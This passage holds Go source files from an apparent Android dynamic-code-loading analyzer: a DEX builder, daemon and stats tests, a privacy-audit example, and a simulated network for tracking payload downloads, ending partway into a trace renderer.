	cb.c.Interfaces = append(cb.c.Interfaces, ifaces...)
	return cb
}

// Field adds a field.
func (cb *ClassBuilder) Field(name, typ string, flags AccessFlags) *ClassBuilder {
	cb.c.Fields = append(cb.c.Fields, &Field{Name: name, Type: typ, Flags: flags})
	return cb
}

// Method starts a method with the given name, flags, register count and
// return descriptor. Parameter descriptors follow.
func (cb *ClassBuilder) Method(name string, flags AccessFlags, registers int, ret string, params ...string) *MethodBuilder {
	m := &Method{
		Name:      name,
		Flags:     flags,
		Registers: registers,
		Return:    ret,
		Params:    params,
	}
	cb.c.Methods = append(cb.c.Methods, m)
	return &MethodBuilder{m: m, cls: cb.c}
}

// NativeMethod declares a method with the native flag and no body.
func (cb *ClassBuilder) NativeMethod(name string, ret string, params ...string) *ClassBuilder {
	cb.c.Methods = append(cb.c.Methods, &Method{
		Name:   name,
		Flags:  ACCPublic | ACCNative,
		Return: ret,
		Params: params,
	})
	return cb
}

// MethodBuilder appends instructions to one method body and resolves
// labels to branch targets.
type MethodBuilder struct {
	m      *Method
	cls    *Class
	labels map[string]int // label -> instruction index
	fixups map[int]string // instruction index -> pending label
}

// Raw returns the method being built.
func (mb *MethodBuilder) Raw() *Method { return mb.m }

// Ref returns the symbolic reference of the method being built.
func (mb *MethodBuilder) Ref() MethodRef { return mb.m.Ref(mb.cls) }

func (mb *MethodBuilder) emit(in Instruction) *MethodBuilder {
	mb.m.Code = append(mb.m.Code, in)
	return mb
}

// Label binds a name to the next instruction index.
func (mb *MethodBuilder) Label(name string) *MethodBuilder {
	if mb.labels == nil {
		mb.labels = make(map[string]int)
	}
	mb.labels[name] = len(mb.m.Code)
	return mb
}

func (mb *MethodBuilder) branch(op Opcode, a, b int, label string) *MethodBuilder {
	if mb.fixups == nil {
		mb.fixups = make(map[int]string)
	}
	mb.fixups[len(mb.m.Code)] = label
	return mb.emit(Instruction{Op: op, A: a, B: b})
}

// Done resolves labels. Call after the last instruction; unresolved labels
// panic because they are programming errors in generator code, never
// runtime inputs.
func (mb *MethodBuilder) Done() *Method {
	for idx, label := range mb.fixups {
		target, ok := mb.labels[label]
		if !ok {
			panic("dex: unresolved label " + label + " in " + mb.cls.Name + "." + mb.m.Name)
		}
		mb.m.Code[idx].Target = target
	}
	mb.fixups = nil
	return mb.m
}

// Nop appends a nop.
func (mb *MethodBuilder) Nop() *MethodBuilder { return mb.emit(Instruction{Op: OpNop}) }

// Const loads an integer constant into vA.
func (mb *MethodBuilder) Const(a int, v int64) *MethodBuilder {
	return mb.emit(Instruction{Op: OpConst, A: a, Value: v})
}

// ConstString loads a string literal into vA.
func (mb *MethodBuilder) ConstString(a int, s string) *MethodBuilder {
	return mb.emit(Instruction{Op: OpConstString, A: a, Str: s})
}

// Move copies vB into vA.
func (mb *MethodBuilder) Move(a, b int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpMove, A: a, B: b})
}

// MoveResult captures the previous invoke's result into vA.
func (mb *MethodBuilder) MoveResult(a int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpMoveResult, A: a})
}

// NewInstance allocates an instance of the class (Java binary name) into vA.
func (mb *MethodBuilder) NewInstance(a int, class string) *MethodBuilder {
	return mb.emit(Instruction{Op: OpNewInstance, A: a, Str: class})
}

// NewArray allocates an array of the element type with length vB into vA.
func (mb *MethodBuilder) NewArray(a, b int, elem string) *MethodBuilder {
	return mb.emit(Instruction{Op: OpNewArray, A: a, B: b, Str: elem})
}

// InvokeVirtual calls the method; args[0] is the receiver.
func (mb *MethodBuilder) InvokeVirtual(ref MethodRef, args ...int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpInvokeVirtual, Method: ref, Args: args})
}

// InvokeDirect calls a constructor or private method; args[0] is the
// receiver.
func (mb *MethodBuilder) InvokeDirect(ref MethodRef, args ...int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpInvokeDirect, Method: ref, Args: args})
}

// InvokeStatic calls a static method.
func (mb *MethodBuilder) InvokeStatic(ref MethodRef, args ...int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpInvokeStatic, Method: ref, Args: args})
}

// InvokeInterface calls through an interface; args[0] is the receiver.
func (mb *MethodBuilder) InvokeInterface(ref MethodRef, args ...int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpInvokeInterface, Method: ref, Args: args})
}

// IGet reads vB.field into vA.
func (mb *MethodBuilder) IGet(a, b int, field FieldRef) *MethodBuilder {
	return mb.emit(Instruction{Op: OpIGet, A: a, B: b, Field: field})
}

// IPut writes vA into vB.field.
func (mb *MethodBuilder) IPut(a, b int, field FieldRef) *MethodBuilder {
	return mb.emit(Instruction{Op: OpIPut, A: a, B: b, Field: field})
}

// SGet reads the static field into vA.
func (mb *MethodBuilder) SGet(a int, field FieldRef) *MethodBuilder {
	return mb.emit(Instruction{Op: OpSGet, A: a, Field: field})
}

// SPut writes vA into the static field.
func (mb *MethodBuilder) SPut(a int, field FieldRef) *MethodBuilder {
	return mb.emit(Instruction{Op: OpSPut, A: a, Field: field})
}

// Add emits vA = vB + vC.
func (mb *MethodBuilder) Add(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpAdd, A: a, B: b, C: c})
}

// Sub emits vA = vB - vC.
func (mb *MethodBuilder) Sub(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpSub, A: a, B: b, C: c})
}

// Mul emits vA = vB * vC.
func (mb *MethodBuilder) Mul(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpMul, A: a, B: b, C: c})
}

// Div emits vA = vB / vC.
func (mb *MethodBuilder) Div(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpDiv, A: a, B: b, C: c})
}

// Xor emits vA = vB ^ vC.
func (mb *MethodBuilder) Xor(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpXor, A: a, B: b, C: c})
}

// Emit appends a raw instruction (escape hatch for tests and tools).
func (mb *MethodBuilder) Emit(in Instruction) *MethodBuilder {
	return mb.emit(in)
}

// IfEqz branches to label when vA == 0.
func (mb *MethodBuilder) IfEqz(a int, label string) *MethodBuilder {
	return mb.branch(OpIfEqz, a, 0, label)
}

// IfNez branches to label when vA != 0.
func (mb *MethodBuilder) IfNez(a int, label string) *MethodBuilder {
	return mb.branch(OpIfNez, a, 0, label)
}

// IfEq branches to label when vA == vB.
func (mb *MethodBuilder) IfEq(a, b int, label string) *MethodBuilder {
	return mb.branch(OpIfEq, a, b, label)
}

// IfNe branches to label when vA != vB.
func (mb *MethodBuilder) IfNe(a, b int, label string) *MethodBuilder {
	return mb.branch(OpIfNe, a, b, label)
}

// IfLt branches to label when vA < vB.
func (mb *MethodBuilder) IfLt(a, b int, label string) *MethodBuilder {
	return mb.branch(OpIfLt, a, b, label)
}

// IfGe branches to label when vA >= vB.
func (mb *MethodBuilder) IfGe(a, b int, label string) *MethodBuilder {
	return mb.branch(OpIfGe, a, b, label)
}

// Goto branches unconditionally to label.
func (mb *MethodBuilder) Goto(label string) *MethodBuilder {
	return mb.branch(OpGoto, 0, 0, label)
}

// Return returns vA.
func (mb *MethodBuilder) Return(a int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpReturn, A: a})
}

// ReturnVoid returns with no value.
func (mb *MethodBuilder) ReturnVoid() *MethodBuilder {
	return mb.emit(Instruction{Op: OpReturnVoid})
}

// Throw raises vA.
func (mb *MethodBuilder) Throw(a int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpThrow, A: a})
}

// ArrayGet emits vA = vB[vC].
func (mb *MethodBuilder) ArrayGet(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpArrayGet, A: a, B: b, C: c})
}

// ArrayPut emits vB[vC] = vA.
func (mb *MethodBuilder) ArrayPut(a, b, c int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpArrayPut, A: a, B: b, C: c})
}

// ArrayLength emits vA = len(vB).
func (mb *MethodBuilder) ArrayLength(a, b int) *MethodBuilder {
	return mb.emit(Instruction{Op: OpArrayLength, A: a, B: b})
}

// CheckCast asserts vA is an instance of the class.
func (mb *MethodBuilder) CheckCast(a int, class string) *MethodBuilder {
	return mb.emit(Instruction{Op: OpCheckCast, A: a, Str: class})
}

// InstanceOf emits vA = (vB instanceof class).
func (mb *MethodBuilder) InstanceOf(a, b int, class string) *MethodBuilder {
	return mb.emit(Instruction{Op: OpInstanceOf, A: a, B: b, Str: class})
}
