package stats

import (
	"strings"
	"testing"
)

func TestMean(t *testing.T) {
	if got := Mean(nil); got != 0 {
		t.Fatalf("Mean(nil) = %f", got)
	}
	if got := Mean([]float64{1, 2, 3}); got != 2 {
		t.Fatalf("Mean = %f", got)
	}
	if got := MeanInt64([]int64{10, 20}); got != 15 {
		t.Fatalf("MeanInt64 = %f", got)
	}
	if got := MeanInt64(nil); got != 0 {
		t.Fatalf("MeanInt64(nil) = %f", got)
	}
}

func TestPct(t *testing.T) {
	if got := Pct(41, 100); got != "41.00%" {
		t.Fatalf("Pct = %q", got)
	}
	if got := Pct(1, 0); got != "0.00%" {
		t.Fatalf("Pct div0 = %q", got)
	}
	if got := CountPct(16768, 40849); got != "16768 (41.05%)" {
		t.Fatalf("CountPct = %q", got)
	}
}

func TestTableRendering(t *testing.T) {
	tb := NewTable("Demo", "Name", "Value")
	tb.Row("alpha", 1)
	tb.Row("beta", 2.5)
	out := tb.String()
	for _, want := range []string{"Demo", "----", "Name", "alpha", "2.50"} {
		if !strings.Contains(out, want) {
			t.Fatalf("table missing %q:\n%s", want, out)
		}
	}
	// Columns align: "Name" and "alpha" start at the same offset.
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 5 {
		t.Fatalf("table has %d lines: %q", len(lines), out)
	}
}

func TestTableNoTitle(t *testing.T) {
	tb := NewTable("")
	tb.Row("x")
	if strings.Contains(tb.String(), "---") {
		t.Fatal("untitled table rendered separator")
	}
}
