package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/trace"
)

// syncBuffer collects the daemon's access log across goroutines.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestDaemonLifecycle boots the daemon on an ephemeral port, submits an
// APK, polls the verdict, and cancels the context (the SIGTERM path) —
// run must drain and return nil.
func TestDaemonLifecycle(t *testing.T) {
	ready := make(chan string, 1)
	done := make(chan error, 1)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var accessLog syncBuffer
	traceDir := filepath.Join(t.TempDir(), "traces")
	go func() {
		done <- run(ctx, daemonOptions{
			Addr:      "127.0.0.1:0",
			Workers:   2,
			Queue:     8,
			StoreDir:  filepath.Join(t.TempDir(), "store"),
			Seed:      7,
			Events:    25,
			TraceDir:  traceDir,
			LogJSON:   true,
			LogWriter: &accessLog,
			Ready:     func(addr string) { ready <- addr },
		})
	}()
	var addr string
	select {
	case addr = <-ready:
	case err := <-done:
		t.Fatalf("daemon exited early: %v", err)
	case <-time.After(60 * time.Second):
		t.Fatal("daemon never came up")
	}
	base := "http://" + addr

	// Health first.
	resp, err := http.Get(base + "/v1/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}

	// Submit a small app and poll its verdict.
	b := dex.NewBuilder()
	b.Class("com.cli.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	apkBytes, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: "com.cli", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.cli.Main", Main: true}}}},
		Dex: dexBytes,
	})
	if err != nil {
		t.Fatal(err)
	}
	resp, err = http.Post(base+"/v1/scan", "application/octet-stream", bytes.NewReader(apkBytes))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted && resp.StatusCode != http.StatusOK {
		t.Fatalf("scan: %d", resp.StatusCode)
	}
	digest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(60 * time.Second)
	for {
		resp, err := http.Get(base + "/v1/result/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			if !bytes.Contains(body, []byte(`"package":"com.cli"`)) {
				t.Fatalf("verdict = %s", body)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("verdict never arrived: %d %s", resp.StatusCode, body)
		}
		time.Sleep(20 * time.Millisecond)
	}

	// The analysis span tree is served and persisted under -traces.
	resp, err = http.Get(base + "/v1/trace/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	traceBody, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("trace: %d %s", resp.StatusCode, traceBody)
	}
	var tr trace.Trace
	if err := json.Unmarshal(traceBody, &tr); err != nil {
		t.Fatalf("trace body: %v\n%s", err, traceBody)
	}
	if tr.Digest != digest || tr.Root == nil || tr.Root.Find("analyze") == nil {
		t.Fatalf("trace incomplete: %s", traceBody)
	}
	if _, err := os.Stat(filepath.Join(traceDir, digest+".json")); err != nil {
		t.Fatalf("trace not persisted: %v", err)
	}

	// -logjson produced structured access-log lines for the scan.
	logged := accessLog.String()
	if !strings.Contains(logged, `"msg":"request"`) ||
		!strings.Contains(logged, `"path":"/v1/scan"`) ||
		!strings.Contains(logged, `"digest":"`+digest+`"`) {
		t.Fatalf("access log missing request lines:\n%s", logged)
	}

	// Prometheus exposition is live.
	resp, err = http.Get(base + "/v1/metricz?format=prom")
	if err != nil {
		t.Fatal(err)
	}
	promBody, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !bytes.Contains(promBody, []byte("dydroid_service_analyzed_total")) {
		t.Fatalf("prom exposition missing counters:\n%.500s", promBody)
	}

	// Context cancellation drains the daemon.
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run returned %v", err)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("daemon never drained")
	}
}

// bootDaemon starts run() with the given options on an ephemeral port
// and returns its base URL plus the exit channel.
func bootDaemon(t *testing.T, ctx context.Context, o daemonOptions) (string, chan error) {
	t.Helper()
	ready := make(chan string, 1)
	done := make(chan error, 1)
	o.Addr = "127.0.0.1:0"
	o.Ready = func(addr string) { ready <- addr }
	go func() { done <- run(ctx, o) }()
	select {
	case addr := <-ready:
		return "http://" + addr, done
	case err := <-done:
		t.Fatalf("daemon exited early: %v", err)
	case <-time.After(60 * time.Second):
		t.Fatal("daemon never came up")
	}
	return "", nil
}

// TestCoordinatorDaemon boots one worker daemon and one coordinator
// daemon routing to it, scans through the coordinator, and reads the
// verdict and cluster status back through the proxy.
func TestCoordinatorDaemon(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	workerBase, workerDone := bootDaemon(t, ctx, daemonOptions{
		Workers: 2, Queue: 8, Seed: 7, Events: 25, NoTrain: true, NoReview: true,
	})
	coordBase, coordDone := bootDaemon(t, ctx, daemonOptions{
		Coordinator:   true,
		Nodes:         []string{strings.TrimPrefix(workerBase, "http://")},
		ProbeInterval: 100 * time.Millisecond,
		ProbeFailures: 3,
	})

	b := dex.NewBuilder()
	b.Class("com.clu.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	apkBytes, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: "com.clu", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.clu.Main", Main: true}}}},
		Dex: dexBytes,
	})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(coordBase+"/v1/scan", "application/octet-stream", bytes.NewReader(apkBytes))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan via coordinator: %d", resp.StatusCode)
	}
	digest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(60 * time.Second)
	for {
		resp, err := http.Get(coordBase + "/v1/result/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			if !bytes.Contains(body, []byte(`"package":"com.clu"`)) {
				t.Fatalf("verdict = %s", body)
			}
			if resp.Header.Get("X-Dydroid-Node") == "" {
				t.Fatal("proxied verdict missing X-Dydroid-Node")
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("verdict never arrived via coordinator: %d %s", resp.StatusCode, body)
		}
		time.Sleep(20 * time.Millisecond)
	}

	// The coordinator surfaces per-node health.
	resp, err = http.Get(coordBase + "/v1/cluster/status")
	if err != nil {
		t.Fatal(err)
	}
	var status struct {
		NodesLive int `json:"nodes_live"`
		Members   []struct {
			Healthy bool `json:"healthy"`
		} `json:"members"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&status); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if status.NodesLive != 1 || len(status.Members) != 1 || !status.Members[0].Healthy {
		t.Fatalf("cluster status = %+v", status)
	}

	cancel()
	for _, done := range []chan error{coordDone, workerDone} {
		select {
		case err := <-done:
			if err != nil {
				t.Fatalf("run returned %v", err)
			}
		case <-time.After(60 * time.Second):
			t.Fatal("daemon never drained")
		}
	}
}
