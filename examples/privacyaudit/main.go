// Privacyaudit runs DyDroid over a miniature marketplace and reports the
// privacy types tracked inside dynamically loaded code, with responsible-
// entity attribution — the Table X measurement, as a downstream user of
// the library would run it against their own app set.
package main

import (
	"fmt"
	"log"
	"sort"

	"github.com/dydroid/dydroid"
)

func main() {
	store, err := dydroid.GenerateStore(dydroid.StoreConfig{Seed: 3, Scale: 0.003})
	if err != nil {
		log.Fatal(err)
	}
	classifier, err := store.TrainingSet(2)
	if err != nil {
		log.Fatal(err)
	}
	analyzer := dydroid.NewAnalyzer(dydroid.Options{
		Seed:        5,
		Classifier:  classifier,
		Network:     store.Network,
		SetupDevice: store.SetupDevice,
	})

	type row struct {
		apps, exclusive int
	}
	byType := map[string]*row{}
	withIntercepted := 0

	for _, app := range store.Apps {
		apkBytes, err := store.BuildAPK(app)
		if err != nil {
			log.Fatal(err)
		}
		res, err := analyzer.AnalyzeAPK(apkBytes)
		if err != nil {
			log.Fatal(err)
		}
		if res.Privacy == nil {
			continue
		}
		withIntercepted++
		for _, dt := range res.Privacy.LeakedTypes() {
			r := byType[string(dt)]
			if r == nil {
				r = &row{}
				byType[string(dt)] = r
			}
			r.apps++
			if res.PrivacyByEntity[string(dt)] {
				r.exclusive++
			}
		}
	}

	fmt.Printf("privacy tracking in dynamically loaded code (%d apps with intercepted DEX)\n\n",
		withIntercepted)
	fmt.Printf("%-24s %6s  %s\n", "data type", "#apps", "exclusively third-party")
	types := make([]string, 0, len(byType))
	for dt := range byType {
		types = append(types, dt)
	}
	sort.Slice(types, func(i, j int) bool { return byType[types[i]].apps > byType[types[j]].apps })
	for _, dt := range types {
		r := byType[dt]
		fmt.Printf("%-24s %6d  %d (%.0f%%)\n", dt, r.apps, r.exclusive,
			100*float64(r.exclusive)/float64(r.apps))
	}
	fmt.Println("\nthe integrated SDK is a black box for the developer: most of these")
	fmt.Println("flows are invoked exclusively by third-party code (paper §V-B-f).")
}
