module github.com/dydroid/dydroid

go 1.22
