// Package netsim simulates the java.net/java.io runtime object world that
// DyDroid's download tracker instruments: URL, URLConnection, InputStream,
// Buffer, OutputStream and File objects — each identified by type and hash
// code, exactly as the paper represents them — plus an in-process registry
// of remote servers serving payloads over simulated HTTP/HTTPS/FTP.
//
// Every data movement between objects emits a flow event to a Recorder;
// the events correspond one-to-one to the rules of Table I. The tracker in
// internal/core subscribes as the Recorder, builds the flow graph, and
// searches for URL-to-File paths to classify provenance.
package netsim

import (
	"errors"
	"fmt"
	"strings"
	"sync"
)

// ObjectID identifies a runtime object by type name and hash code (paper
// §III-B: "Each object is represented by type and hash code").
type ObjectID struct {
	Type string
	Hash int
}

// String renders "Type@hash".
func (id ObjectID) String() string { return fmt.Sprintf("%s@%x", id.Type, id.Hash) }

// Runtime object type names used in flow events.
const (
	TypeURL          = "java.net.URL"
	TypeInputStream  = "java.io.InputStream"
	TypeBuffer       = "byte[]"
	TypeOutputStream = "java.io.OutputStream"
	TypeFile         = "java.io.File"
)

// Recorder receives instrumentation events. Implementations must be safe
// for concurrent use. The zero-value NopRecorder ignores everything.
type Recorder interface {
	// RecordURLInit fires when a URL object is constructed with its spec.
	RecordURLInit(obj ObjectID, url string)
	// RecordFlow fires for every object-to-object data movement.
	RecordFlow(from, to ObjectID)
	// RecordFileBind fires when a File-typed object is associated with a
	// concrete storage path.
	RecordFileBind(obj ObjectID, path string)
}

// NopRecorder discards all events.
type NopRecorder struct{}

// RecordURLInit implements Recorder.
func (NopRecorder) RecordURLInit(ObjectID, string) {}

// RecordFlow implements Recorder.
func (NopRecorder) RecordFlow(ObjectID, ObjectID) {}

// RecordFileBind implements Recorder.
func (NopRecorder) RecordFileBind(ObjectID, string) {}

// Factory allocates runtime objects with unique hash codes. Safe for
// concurrent use.
type Factory struct {
	mu   sync.Mutex
	next int
	rec  Recorder
}

// NewFactory creates a factory reporting to rec (nil means no recording).
func NewFactory(rec Recorder) *Factory {
	if rec == nil {
		rec = NopRecorder{}
	}
	return &Factory{next: 0x1000, rec: rec}
}

func (f *Factory) id(typ string) ObjectID {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.next++
	return ObjectID{Type: typ, Hash: f.next}
}

// URLValue is a constructed java.net.URL.
type URLValue struct {
	ID   ObjectID
	Spec string
	fac  *Factory
}

// NewURL constructs a URL object, emitting the URL-init event.
func (f *Factory) NewURL(spec string) *URLValue {
	u := &URLValue{ID: f.id(TypeURL), Spec: spec, fac: f}
	f.rec.RecordURLInit(u.ID, spec)
	return u
}

// OpenWith exposes the given payload bytes as this URL's response stream,
// emitting the URL -> InputStream flow. Network.OpenStream uses it after
// a fetch; tests and offline replays can call it directly.
func (u *URLValue) OpenWith(data []byte) *InputStream {
	s := u.fac.NewInputStream(data)
	u.fac.rec.RecordFlow(u.ID, s.ID)
	return s
}

// InputStream is a readable byte source.
type InputStream struct {
	ID   ObjectID
	data []byte
	pos  int
	fac  *Factory
}

// NewInputStream wraps raw bytes (used by file opens and network fetches).
func (f *Factory) NewInputStream(data []byte) *InputStream {
	return &InputStream{ID: f.id(TypeInputStream), data: data, fac: f}
}

// Wrap creates a new stream over the remainder of s (the
// InputStream -> InputStream rule, e.g. BufferedInputStream).
func (s *InputStream) Wrap() *InputStream {
	w := s.fac.NewInputStream(s.data[s.pos:])
	s.fac.rec.RecordFlow(s.ID, w.ID)
	return w
}

// Read copies up to n bytes into a fresh Buffer (InputStream -> Buffer).
// It returns nil at end of stream.
func (s *InputStream) Read(n int) *Buffer {
	if s.pos >= len(s.data) {
		return nil
	}
	end := s.pos + n
	if end > len(s.data) {
		end = len(s.data)
	}
	b := s.fac.NewBuffer(append([]byte(nil), s.data[s.pos:end]...))
	s.pos = end
	s.fac.rec.RecordFlow(s.ID, b.ID)
	return b
}

// ReadAll drains the stream into one Buffer.
func (s *InputStream) ReadAll() *Buffer {
	b := s.Read(len(s.data) - s.pos + 1)
	if b == nil {
		b = s.fac.NewBuffer(nil)
		s.fac.rec.RecordFlow(s.ID, b.ID)
	}
	return b
}

// Len returns the total stream length.
func (s *InputStream) Len() int { return len(s.data) }

// Buffer is an in-memory byte array.
type Buffer struct {
	ID   ObjectID
	Data []byte
	fac  *Factory
}

// NewBuffer wraps bytes in a Buffer object.
func (f *Factory) NewBuffer(data []byte) *Buffer {
	return &Buffer{ID: f.id(TypeBuffer), Data: data, fac: f}
}

// AsInputStream re-exposes buffer contents as a stream (Buffer ->
// InputStream, e.g. ByteArrayInputStream).
func (b *Buffer) AsInputStream() *InputStream {
	s := b.fac.NewInputStream(append([]byte(nil), b.Data...))
	b.fac.rec.RecordFlow(b.ID, s.ID)
	return s
}

// OutputStream accumulates bytes destined for a file path.
type OutputStream struct {
	ID   ObjectID
	Path string
	Data []byte
	fac  *Factory
}

// NewOutputStream opens an output stream to the given storage path.
func (f *Factory) NewOutputStream(path string) *OutputStream {
	return &OutputStream{ID: f.id(TypeOutputStream), Path: path, fac: f}
}

// Write appends buffer contents (Buffer -> OutputStream).
func (o *OutputStream) Write(b *Buffer) {
	o.Data = append(o.Data, b.Data...)
	o.fac.rec.RecordFlow(b.ID, o.ID)
}

// DrainTo moves accumulated bytes into another stream (OutputStream ->
// OutputStream, e.g. BufferedOutputStream flush).
func (o *OutputStream) DrainTo(dst *OutputStream) {
	dst.Data = append(dst.Data, o.Data...)
	o.Data = nil
	o.fac.rec.RecordFlow(o.ID, dst.ID)
}

// ToBuffer snapshots accumulated bytes (OutputStream -> Buffer, e.g.
// ByteArrayOutputStream.toByteArray).
func (o *OutputStream) ToBuffer() *Buffer {
	b := o.fac.NewBuffer(append([]byte(nil), o.Data...))
	o.fac.rec.RecordFlow(o.ID, b.ID)
	return b
}

// CloseToFile finalizes the stream into a File object bound to the
// stream's path (OutputStream -> File). The caller persists Data to
// storage.
func (o *OutputStream) CloseToFile() *FileValue {
	fv := o.fac.NewFile(o.Path)
	o.fac.rec.RecordFlow(o.ID, fv.ID)
	return fv
}

// FileValue is a java.io.File bound to a storage path.
type FileValue struct {
	ID   ObjectID
	Path string
	fac  *Factory
}

// NewFile constructs a File object bound to path, emitting the bind event.
func (f *Factory) NewFile(path string) *FileValue {
	fv := &FileValue{ID: f.id(TypeFile), Path: path, fac: f}
	f.rec.RecordFileBind(fv.ID, path)
	return fv
}

// CopyTo records a file copy or rename (File -> File) and returns the
// destination File object.
func (fv *FileValue) CopyTo(path string) *FileValue {
	dst := fv.fac.NewFile(path)
	fv.fac.rec.RecordFlow(fv.ID, dst.ID)
	return dst
}

// Open exposes file contents as a stream (File -> InputStream). The
// caller supplies the bytes read from storage.
func (fv *FileValue) Open(data []byte) *InputStream {
	s := fv.fac.NewInputStream(data)
	fv.fac.rec.RecordFlow(fv.ID, s.ID)
	return s
}

// Network errors.
var (
	// ErrOffline is returned when the device has no connectivity.
	ErrOffline = errors.New("netsim: network unreachable")
	// ErrNotFound is returned for unknown hosts or paths.
	ErrNotFound = errors.New("netsim: not found")
)

// Payload is one servable resource.
type Payload struct {
	Data        []byte
	ContentType string
}

// Network is the registry of remote servers. The Online hook consults
// device connectivity (android.Device.NetworkAvailable).
type Network struct {
	mu      sync.Mutex
	routes  map[string]Payload // full URL -> payload
	Online  func() bool
	fetches []string
}

// NewNetwork creates an empty network that is always online until an
// Online hook is installed.
func NewNetwork() *Network {
	return &Network{routes: make(map[string]Payload)}
}

// Serve registers a payload at the exact URL.
func (n *Network) Serve(url string, p Payload) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.routes[url] = p
}

// Clone returns a network with a copy of the routes and no Online hook or
// fetch history. The per-app pipeline clones the marketplace network so
// each run binds connectivity to its own device.
func (n *Network) Clone() *Network {
	n.mu.Lock()
	defer n.mu.Unlock()
	c := NewNetwork()
	for url, p := range n.routes {
		c.routes[url] = p
	}
	return c
}

// Unserve removes a URL (used by the Bouncer-evasion server that flips
// payload delivery off during review).
func (n *Network) Unserve(url string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	delete(n.routes, url)
}

// Fetch retrieves the payload at the URL, honoring connectivity. The
// scheme must be http, https or ftp.
func (n *Network) Fetch(url string) (Payload, error) {
	if n.Online != nil && !n.Online() {
		return Payload{}, fmt.Errorf("%w: %s", ErrOffline, url)
	}
	if !validScheme(url) {
		return Payload{}, fmt.Errorf("netsim: unsupported scheme in %q", url)
	}
	n.mu.Lock()
	defer n.mu.Unlock()
	n.fetches = append(n.fetches, url)
	p, ok := n.routes[url]
	if !ok {
		return Payload{}, fmt.Errorf("%w: %s", ErrNotFound, url)
	}
	return p, nil
}

// Fetches returns the URLs fetched so far, in order.
func (n *Network) Fetches() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return append([]string(nil), n.fetches...)
}

// OpenStream fetches the URL and exposes it as an InputStream, emitting
// the URL -> InputStream flow (URLConnection.getInputStream).
func (n *Network) OpenStream(f *Factory, u *URLValue) (*InputStream, error) {
	p, err := n.Fetch(u.Spec)
	if err != nil {
		return nil, err
	}
	return u.OpenWith(p.Data), nil
}

func validScheme(url string) bool {
	for _, s := range []string{"http://", "https://", "ftp://"} {
		if strings.HasPrefix(url, s) {
			return true
		}
	}
	return false
}
