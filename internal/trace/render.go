package trace

import (
	"fmt"
	"io"
	"strings"
	"time"
)

// Render writes the trace as an indented timing tree, one span per line
// with its duration, share of the root, attributes, and error; span
// events render as nested "·" lines. This is the `apkinspect trace`
// output format.
func Render(w io.Writer, t *Trace) {
	if t == nil || t.Root == nil {
		return
	}
	fmt.Fprintf(w, "trace %s", t.ID)
	if t.Digest != "" {
